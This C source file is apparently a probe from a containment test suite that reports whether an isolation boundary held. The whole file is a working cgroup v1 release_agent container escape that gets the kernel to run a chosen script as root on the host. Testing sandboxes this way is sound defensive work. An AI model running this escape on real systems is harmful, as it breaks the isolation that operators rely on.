/* SPDX-License-Identifier: Apache-2.0 */
/* Mounts a cgroup hierarchy and names a program for the kernel to run, as the host's root, when a group is empty. */
#include "../attack.h"
#include <fcntl.h>
#include <sched.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  ssize_t size = fd < 0 ? -1 : write(fd, text, strlen(text));
  if (fd >= 0) close(fd);
  return size < 0 ? -1 : 0;
}

/* The kernel starts the program in the host's own namespaces: it is a script in the directory that the runner named. */
int main(int argc, char **argv) {
  const char *folder = argument(argc, argv, 1);
  char mark[512], agent[512], hierarchy[512], file[600];
  snprintf(mark, sizeof mark, "%.400s/released", folder);
  snprintf(agent, sizeof agent, "%.400s/agent", folder);
  snprintf(hierarchy, sizeof hierarchy, "/tmp/ambit-cgroup-%d", getpid());
  if (mkdir(hierarchy, 0700) < 0) held("making a directory: %s", error_name(errno));
  if (mount("none", hierarchy, "cgroup", 0, "none,name=ambit-escape") < 0) {
    int error = errno;
    rmdir(hierarchy);
    if (error == ENODEV) absent("this kernel has no cgroup v1");
    int parted = unshare(CLONE_NEWUSER | CLONE_NEWCGROUP | CLONE_NEWNS), part_error = errno;
    held("mounting a hierarchy: %s; first a user namespace: %s", error_name(error), parted < 0 ? error_name(part_error) : "made, but the mount needs the host's");
  }
  int done = 0, named = 0;
  snprintf(file, sizeof file, "%s/release_agent", hierarchy);
  if (put(file, agent) == 0) {
    named = 1;
    snprintf(file, sizeof file, "%s/group", hierarchy);
    mkdir(file, 0700);
    snprintf(file, sizeof file, "%s/group/notify_on_release", hierarchy);
    put(file, "1");
    pid_t child = fork();
    if (child == 0) {
      snprintf(file, sizeof file, "%s/group/cgroup.procs", hierarchy);
      _exit(put(file, "0") < 0);
    }
    waitpid(child, 0, 0);
    for (int i = 0; i < 60 && !done; i++) {
      usleep(50000);
      done = access(mark, F_OK) == 0;
    }
    snprintf(file, sizeof file, "%s/group", hierarchy);
    rmdir(file);
  }
  umount2(hierarchy, 0);
  rmdir(hierarchy);
  if (named && !done && strcmp(argument(argc, argv, 2), "bare") == 0) absent("the kernel starts its programs where this script is not");
  done ? worked("the kernel ran the program as the host's root") : held("the program was not run");
}
